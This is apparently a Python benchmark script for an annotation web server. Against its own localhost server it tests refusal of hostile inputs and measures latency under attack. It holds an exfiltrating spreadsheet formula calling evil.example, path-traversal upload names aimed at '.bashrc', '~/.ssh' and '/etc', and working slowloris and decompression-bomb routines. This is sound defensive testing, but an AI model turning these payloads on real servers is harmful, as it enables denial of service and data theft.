"""What attacks on the annotation page come to: what they get, and what they cost those who answer.

    python benchmarks/annotation_attacks.py
    python benchmarks/annotation_attacks.py --quick  # a turn of each, nothing is written

writes ``benchmarks/results/annotation_attacks.json``. First come requests that want something they
must not have: formulas in exports, notes on the cards of others, the name of the lead, texts that a
database cannot store, pages of the lead, files and paths on the server. Each is held or not. The
tables of ``tests/test_annotate_guard.py`` have the others.

Then the cost: the server runs in its own process, as ``comes annotate serve``, and starts with 256
files (``ulimit -Sn 256``). Ten robots, quick people, answer cards. Turns without and with an attack
alternate, so that a noisy machine disturbs both alike; quantiles are over the answers of all turns.
The attackers are threads of one more process, which share the cores with server and robots:

- idle sockets: 300 connections are kept open without a word; one that is cut is opened again.
- slow headers and slow bodies: 300 requests, each a byte a second.
- decode bombs: six at once ask for PNGs of 13000 x 13000 pixels (164 kB each), never the same.

The server itself ends none of the slow ones, which is the work of a proxy; it has 1000 places, and
tells everybody to come again (503) when they are taken. The most resident memory of the server
during the bombs is measured, too, and the bytes and milliseconds of a picture of 24 megapixels, the
first time and later.
"""

import argparse
import csv
import http.client
import json
import multiprocessing
import os
import resource
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import numpy as np
from measuring import significant, write
from PIL import Image
from robots import COOKIE, run_robots

from comes.annotate import create_project, serve_in_thread
from comes.annotate.links import make_link

REPEATS = 6
FILES = 256  # with which the server starts; it may ask for more
ROBOTS, PAUSE, ANSWERS = 10, 0.25, 15
SOCKETS = 300
BOMBS, SIDE, AT_ONCE = 400, 13_000, 6
TEXTS = 3000  # small pictures that people are asked about
Attack = Callable[[int, int, Any], None]  # port, number of the turn, event that ends it


def hold(port: int, first: bytes, drip: bytes, ends: Any) -> None:
    """Keep connections open: send something first, then a byte a second; open cut ones again."""
    held: list[socket.socket] = []
    while not ends.is_set():
        while len(held) < SOCKETS and not ends.is_set():
            try:
                one = socket.create_connection(("127.0.0.1", port), timeout=2)
                one.sendall(first)
                one.setblocking(False)
                held.append(one)
            except OSError:
                break
        time.sleep(1)
        held = [one for one in held if keeps_open(one, drip)]


def keeps_open(connection: socket.socket, drip: bytes) -> bool:
    """Send a byte, and return whether the connection is still open."""
    try:
        if drip:
            connection.send(drip)
        return connection.recv(4096) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def idle(port: int, turn: int, ends: Any) -> None:
    """Say nothing."""
    hold(port, b"", b"", ends)


def slow_headers(port: int, turn: int, ends: Any) -> None:
    """Send headers, a byte a second."""
    hold(port, b"GET /join HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", b"x", ends)


def slow_bodies(port: int, turn: int, ends: Any) -> None:
    """Send a body, a byte a second."""
    head = (
        b"POST /api/answers HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n\r\n"
    )
    hold(port, head, b" ", ends)


def bombs(port: int, turn: int, ends: Any) -> None:
    """Ask for large pictures, several at once, each but once."""
    numbers = iter(range(1 + turn * BOMBS // REPEATS, 1 + (turn + 1) * BOMBS // REPEATS))

    def ask() -> None:
        while not ends.is_set():
            number = next(numbers, None)
            if number is None:
                return
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
            try:
                connection.request("GET", f"/items/{number}")
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                pass
            finally:
                connection.close()

    threads = [threading.Thread(target=ask, daemon=True) for _ in range(AT_ONCE)]
    for thread in threads:
        thread.start()
    ends.wait()


ATTACKS: dict[str, Attack] = {
    "idle_sockets": idle,
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "decode_bombs": bombs,
}


def ask(address: str, method: str, path: str, body: Any = None, **headers: str) -> Any:
    """Return the reply to a request and its content; what is not json goes as a file."""
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)
    kind = "application/octet-stream" if isinstance(body, bytes) else "application/json"
    content = body if isinstance(body, bytes) else json.dumps(body)
    sent = {"Content-Type": kind, **headers}
    connection.request(method, path, None if body is None else content, sent)
    reply = connection.getresponse()
    found = reply, reply.read()
    connection.close()
    return found


def join_as(address: str, token: str, name: Any) -> tuple[int, str]:
    """Return the status of joining under a name, and the cookies that come of it."""
    reply, _ = ask(address, "POST", "/api/join", {"name": name}, Cookie=f"{COOKIE}={token}")
    own = (reply.getheader("set-cookie") or "").partition(";")[0]
    return reply.status, f"{COOKIE}={token}; {own}"


FORMULA = '=HYPERLINK("http://evil.example?"&A1;"click")'
LEADS = [
    "/lead",
    "/lead/answers",
    "/lead/people",
    "/lead/export/raw.csv",
    "/setup",
    "/lead/",
    "/LEAD",
]
CHANGES = ["decide", "note", "person", "freeze", "link", "revoke", "asking", "hints"]


def try_requests(home: Path) -> dict[str, bool]:
    """Return which requests are held: that want what they must not have."""
    held: dict[str, bool] = {}
    items = "".join(f"=1+{k},@text {k}\n" for k in range(60))
    (home / "items.csv").write_text(f"item,text\n{items}")
    (home / "classes.txt").write_text("-class\n+class\n")
    project = create_project(home / "tried", home / "items.csv", home / "classes.txt", rate=1)
    annotator, lead = (make_link(project, role, role) for role in ("annotator", "lead"))
    with serve_in_thread(project, needs_token=True) as address:

        def post(path: str, cookies: str, body: Any) -> Any:
            reply, content = ask(address, "POST", path, body, Cookie=cookies)
            return reply.status, json.loads(content)

        status, eve = join_as(address, annotator, FORMULA)
        _, bob = join_as(address, annotator, "Bob")
        tabs = {"eve": {"tab": "tab-of-eve"}, "bob": {"tab": "tab-of-bob"}}
        mine = post("/api/cards", eve, tabs["eve"])[1]["cards"][0]["card"]
        his = post("/api/cards", bob, tabs["bob"])[1]["cards"][0]["card"]
        note = {**tabs["eve"], "card": mine, "text": "@SUM(A1)"}
        wrote = post("/api/notes", eve, note)[0]
        given = {"card": mine, "answer": "no", "key": "key-of-eve", "seconds": 1.0}
        said = post("/api/answers", eve, {**tabs["eve"], "answers": [given]})[0]
        if (status, wrote, said) != (200, 200, 200):
            raise RuntimeError(f"Eve could not work: {status}, {wrote}, {said}")
        cookies = f"{COOKIE}={lead}"
        for what in ("answers", "raw"):
            for ending in ("csv", "xlsx"):
                path = home / f"{what}.{ending}"
                path.write_bytes(
                    ask(address, "GET", f"/lead/export/{path.name}", Cookie=cookies)[1]
                )
                held[f"formulas in {path.name}"] = not find_formulas(path)
        for name in ("the lead", "The  Lead", "THELEAD", "a\0b", "\ud800", "a\nb", "\u202eAda"):
            held[f"join as {name!r}"] = join_as(address, annotator, name)[0] == 422
        for about, body in {
            "another's card": {**tabs["eve"], "card": his, "text": "x"},
            "another's card, in his tab": {**tabs["bob"], "card": his, "text": "x"},
            "a card that is answered": note,
            "a card that nobody has": {**tabs["eve"], "card": 119, "text": "x"},
        }.items():
            held[f"note on {about}"] = post("/api/notes", eve, body)[0] in (404, 409)
        for text in ("a\0b", "\udfff"):
            body = {**tabs["bob"], "card": his, "text": text}
            held[f"note {text!r}"] = post("/api/notes", bob, body)[0] == 422
        for page in LEADS:
            held[f"annotator: {page}"] = ask(address, "GET", page, Cookie=eve)[0].status in (
                403,
                404,
            )
        for name in CHANGES:
            held[f"annotator: {name}"] = post(f"/api/lead/{name}", eve, {})[0] == 403
        uploads = ["/api/lead/table/decisions/a.csv", "/api/setup/files/a.csv", "/setup/../a.csv"]
        for place in uploads:
            status = ask(address, "PUT", place, b"item,label,answer", Cookie=eve)[0].status
            held[f"annotator: PUT {place}"] = status in (403, 404, 415)
            status = ask(address, "PUT", place, b"item,label,answer")[0].status
            held[f"nobody: PUT {place}"] = status == 401
        for name in (
            "..%2f..%2fevil.csv",
            "%00.csv",
            ".hidden.csv",
            "a%5cb.csv",
            "a" * 300 + ".csv",
        ):
            place = f"/api/lead/table/decisions/{name}"
            status = ask(address, "PUT", place, b"item", Cookie=cookies)[0].status
            held[f"upload as {name[:30]}"] = status in (404, 422)
        sent = ask(address, "PUT", uploads[0], b"", Cookie=cookies, **{"Content-Length": "9" * 9})
        held["upload of a gigabyte, as it says"] = sent[0].status == 413
        evil = {"Cookie": cookies, "Origin": "http://evil.example"}
        held["upload from another site"] = (
            ask(address, "PUT", uploads[0], b"", **evil)[0].status == 403
        )
    project.engine.dispose()
    return held | try_setup(home)


def find_formulas(path: Path) -> list[Any]:
    """Return the cells of an export that a spreadsheet would compute."""
    if path.suffix == ".csv":
        rows = csv.reader(path.read_text().splitlines())
        return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
    import openpyxl

    sheet = openpyxl.load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def try_setup(home: Path) -> dict[str, bool]:
    """Return which requests are held by a server that has no project yet."""
    held: dict[str, bool] = {}
    words = ["annotate", "serve", str(home / "new"), "--port", "0", "--token"]
    command = [sys.executable, "-m", "comes", *words]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=home) as server:
        try:
            assert server.stdout is not None
            link = urlsplit(server.stdout.readline().split()[-1])
            address, cookies = (
                f"http://{link.netloc}",
                f"{COOKIE}={parse_qs(link.query)['token'][0]}",
            )
            for path in ("/setup", "/", "/api/setup/items", "/lead"):
                held[f"setup without a token: {path}"] = ask(address, "GET", path)[0].status == 401
            for name in ("..%2fevil.csv", ".bashrc", "evil.sh", "a%00.csv"):
                status = ask(address, "PUT", f"/api/setup/files/{name}", b"x", Cookie=cookies)[
                    0
                ].status
                held[f"setup: upload as {name}"] = status in (404, 422)
            for place in ("/etc", "/", "../..", "~/.ssh", f"{home}/../..", "a\0b"):
                body = {"place": place}
                status = ask(address, "POST", "/api/setup/items", body, Cookie=cookies)[0].status
                held[f"setup: items of {place!r}"] = status == 422
        finally:
            server.kill()
    held["setup: nothing is left"] = not (home / "new").exists() and not list(home.glob("evil*"))
    return held


def measure(address: str) -> list[float]:
    """Return the milliseconds of every answer."""
    reports = run_robots(address, ROBOTS, lambda *_: "no", pause=PAUSE, most=ANSWERS)
    if any(report.error or report.refused for report in reports):
        raise RuntimeError(f"a robot could not answer: {reports}")
    each = [1000 * seconds for report in reports for seconds in report.seconds]
    if len(each) != ROBOTS * ANSWERS:
        raise RuntimeError("there were too few cards")
    return each


def find_family(process: int) -> set[str]:
    """Return a process and its children."""
    tasks = Path(f"/proc/{process}/task").iterdir()
    return {
        str(process),
        *(one for task in tasks for one in (task / "children").read_text().split()),
    }


def read_memory(process: int, field: str) -> float:
    """Return megabytes of a process and its children: VmRSS now, VmHWM at most."""
    total = 0
    for one in find_family(process):
        lines = Path(f"/proc/{one}/status").read_text().splitlines()
        total += next(int(line.split()[1]) for line in lines if line.startswith(field))
    return total / 1024


def take_turn(address: str, server: int, attack: Attack, turn: int) -> dict[str, Any]:
    """Measure before and during an attack."""
    port, ends = int(address.rpartition(":")[2]), multiprocessing.Event()
    found: dict[str, Any] = {"before": measure(address)}
    for one in find_family(server):
        Path(f"/proc/{one}/clear_refs").write_text("5")  # the most memory starts anew
    found["resident_before"] = read_memory(server, "VmRSS")
    attacker = multiprocessing.Process(target=attack, args=(port, turn, ends), daemon=True)
    attacker.start()
    time.sleep(2)  # it has begun
    found["during"] = measure(address)
    found["resident_at_most"] = read_memory(server, "VmHWM")
    ends.set()
    attacker.join(10)
    attacker.kill()
    time.sleep(2)
    return found


def summarise(turns: list[dict[str, Any]]) -> dict[str, Any]:
    """Return quantiles over all turns, and their ratios."""
    row: dict[str, Any] = {}
    for q in (50, 95, 99):
        before, during = (
            float(np.quantile(np.concatenate([turn[when] for turn in turns]), q / 100))
            for when in ("before", "during")
        )
        row[f"before_p{q}_milliseconds"] = significant(before)
        row[f"during_p{q}_milliseconds"] = significant(during)
        row[f"during_over_before_p{q}"] = significant(during / before)
    ratios = [
        np.quantile(turn["during"], 0.95) / np.quantile(turn["before"], 0.95) for turn in turns
    ]
    row["during_over_before_p95_turns"] = [significant(float(ratio)) for ratio in ratios]
    for key in ("resident_before", "resident_at_most"):
        row[f"{key}_megabytes"] = round(max(turn[key] for turn in turns))
    return row


def fetch_picture(port: int, path: str) -> dict[str, float]:
    """Return bytes and milliseconds of a picture."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    started = time.perf_counter()
    connection.request("GET", path)
    content = connection.getresponse().read()
    seconds = time.perf_counter() - started
    connection.close()
    return {"bytes": len(content), "milliseconds": significant(1000 * seconds)}


def measure_picture(address: str, number: int) -> dict[str, Any]:
    """Return what a picture of 24 megapixels costs, the first time and later."""
    port = int(address.rpartition(":")[2])
    found: dict[str, Any] = {}
    for name, query in (("1600", ""), ("640", "?width=640"), ("160", "?width=160")):
        first = fetch_picture(port, f"/items/{number}{query}")
        later = [fetch_picture(port, f"/items/{number}{query}") for _ in range(5)]
        again = statistics.median(one["milliseconds"] for one in later)
        found[name] = {**first, "later_milliseconds": significant(again)}
    return {**found, "full": fetch_picture(port, f"/items/{number}/full")}


def draw_photo(path: Path) -> None:
    """Write a picture of 24 megapixels with the detail of a photo."""
    rng = np.random.default_rng(0)
    small = Image.fromarray(rng.integers(0, 256, (500, 750, 3), dtype=np.uint8))
    grain = rng.normal(0, 6, (4000, 6000, 3))
    pixels = np.asarray(small.resize((6000, 4000), Image.Resampling.BICUBIC)) + grain
    Image.fromarray(pixels.clip(0, 255).astype(np.uint8)).save(path, quality=92)


def draw_pictures(folder: Path) -> int:
    """Write the pictures; return the number of the photo."""
    folder.mkdir()
    bomb = folder / "a-bomb-0000.png"
    Image.new("L", (SIDE, SIDE)).save(bomb)
    for number in range(1, BOMBS):
        (folder / f"a-bomb-{number:04d}.png").write_bytes(bomb.read_bytes())
    draw_photo(folder / "b-photo.jpg")
    tile = Image.new("RGB", (32, 32), "teal")
    for number in range(TEXTS):
        tile.save(folder / f"c-{number:04d}.png")
    return BOMBS + 1


def measure_init(home: Path) -> float:
    """Return the seconds in which a project of 1000 photos is made, each of which is looked at."""
    folder = home / "thousand"
    folder.mkdir()
    with Image.open(home / "photos" / "b-photo.jpg") as photo:
        photo.resize((1500, 1000)).save(folder / "0000.jpg")
    for number in range(1, 1000):
        shutil.copyfile(folder / "0000.jpg", folder / f"{number:04d}.jpg")
    started = time.perf_counter()
    create_project(home / "made", folder, home / "classes.txt", rate=0.1).engine.dispose()
    return significant(time.perf_counter() - started)


@contextmanager
def running_server(folder: Path) -> Iterator[tuple[str, int]]:
    """Give address and process of ``comes annotate serve``, which may open few files."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "comes", "annotate", "serve", str(folder), "--port", str(port)]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    few = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (FILES, most))  # noqa: E731
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, preexec_fn=few) as server:
        try:
            wait_for_reply(port)
            yield f"http://127.0.0.1:{port}", server.pid
        finally:
            server.kill()


def wait_for_reply(port: int) -> None:
    """Wait until a server accepts connections."""
    until = time.monotonic() + 120
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1):
            return
        time.sleep(0.1)
    raise RuntimeError("the server does not start")


def main() -> None:
    """Try and measure, and write medians."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="a turn of each, nothing is written")
    is_quick, repeats = parser.parse_args().quick, REPEATS
    if is_quick:
        repeats = 1
    result: dict[str, Any] = {
        "repeats": repeats,
        "robots": ROBOTS,
        "sockets": SOCKETS,
        "files": FILES,
        "load_before": round(os.getloadavg()[0], 1),
    }
    with tempfile.TemporaryDirectory() as name:
        home = Path(name)
        held = try_requests(home)
        result["requests"], result["not_held"] = len(held), [one for one in held if not held[one]]
        print(f"{sum(held.values())} of {len(held)} requests are held; not:", result["not_held"])
        photo = draw_pictures(home / "photos")
        (home / "classes.txt").write_text("".join(f"class {k}\n" for k in range(10)))
        if not is_quick:
            result["init_of_1000_photos_seconds"] = measure_init(home)
        project = create_project(home / "project", home / "photos", home / "classes.txt", rate=1)
        project.engine.dispose()
        with running_server(home / "project") as (address, server):
            measure(address)  # the first answers are slower
            result["photo"] = measure_picture(address, photo)
            print(result["photo"], flush=True)
            turns: dict[str, list[dict[str, Any]]] = {name: [] for name in ATTACKS}
            for turn in range(repeats):
                for name, attack in ATTACKS.items():
                    turns[name].append(take_turn(address, server, attack, turn))
            for name in ATTACKS:
                result[name] = summarise(turns[name])
                print(name, result[name], flush=True)
    if not is_quick:
        write("annotation_attacks", result)


if __name__ == "__main__":
    main()
